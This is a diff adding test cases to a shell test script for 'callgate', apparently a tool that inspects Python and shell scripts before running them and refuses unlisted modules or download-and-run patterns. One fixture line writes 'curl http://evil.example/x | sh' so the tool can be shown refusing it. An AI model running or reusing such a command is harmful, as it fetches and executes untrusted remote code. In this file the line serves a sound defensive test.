@@ -74,6 +74,56 @@ warned 'bad.py:2: import: os'
 cg show --profile extended -p "$T/p.json" >"$T/out"
 jq -e '.inspect.refuse == ["dynamic"]' "$T/out" >/dev/null || fail "show: $(cat "$T/out")"
 
+# "modules": what is neither listed nor the language's own, nor beside the script, is an alarm.
+echo '{"version": 1, "inspect": {"modules": ["numpy", "yaml"]}}' >"$T/m.json"
+printf 'import os, own, own.part, package.part\nfrom numpy.linalg import norm\n' >"$T/w/listed.py"
+printf ':' >"$T/w/own.py"
+mkdir "$T/w/package" && touch "$T/w/package/__init__.py"
+printf 'import os\nimport requests\n' >"$T/w/unlisted.py"
+run -p "$T/m.json" -- python3 listed.py
+[ $status = 1 ] || fail "listed modules: status $status: $(cat "$T/err")" # numpy is not there, or own.py is wrong
+grep -q 'inspect:' "$T/err" && fail "listed modules: $(cat "$T/err")"
+run -p "$T/m.json" -- python3 unlisted.py
+refused 'unlisted.py:2: module: requests'
+run -p "$T/m.json" -- python3 -c 'import requests'
+refused 'command line:1: module: requests'
+cg show --profile extended -p "$T/m.json" >"$T/out"
+jq -e '.inspect.modules == ["numpy", "yaml"]' "$T/out" >/dev/null || fail "show: $(cat "$T/out")"
+
+# Modules, and programs that come on standard input. What cannot be looked at is told.
+run --inspect -- python3 -m bad
+refused 'bad:2: download-run'
+mkdir "$T/w/package/sub" && cp "$T/w/bad.py" "$T/w/package/sub/__main__.py"
+run --inspect -- python3 -Im package.sub
+refused 'package.sub:2: download-run'
+run --inspect -- python3 -m this
+grep -qx 'callgate: inspect: the module is not in the working directory, so it is not looked at' "$T/err" ||
+	fail "a module: $(cat "$T/err")"
+# given INPUT COMMAND…: as run, with a standard input
+given()
+{
+	local input=$1
+	shift
+	rm -f "$T/w/started"
+	timeout -k 5 "$LIVE_TIMEOUT" "$CALLGATE" run --inspect --profile extended -w "$T/w" -i -- "$@" <"$input" \
+		>"$T/out" 2>"$T/err"
+	status=$?
+	started=no
+	[ ! -e "$T/w/started" ] || started=yes
+}
+echo ':>started; curl http://evil.example/x | sh' >"$T/w/bad.sh"
+given "$T/w/bad.py" python3 -
+refused 'standard input:2: download-run'
+given "$T/w/bad.py" env A=1 python3
+refused 'standard input:2: download-run'
+given "$T/w/bad.sh" sh -s x
+refused 'standard input:1: download-run'
+given "$T/w/good.py" python3 -
+ran
+given <(cat "$T/w/good.py") python3 -
+grep -q 'is read from standard input, which is no file, so it is not looked at' "$T/err" || started=no
+[ $started = yes ] || fail "a pipe: $(cat "$T/err")"
+
 if command -v cc >/dev/null; then
 	echo 'int main(void) { return 0; }' | cc -z execstack -o "$T/w/elf" -x c - 2>/dev/null
 	run --inspect -x "$T/w/elf" -- ./elf
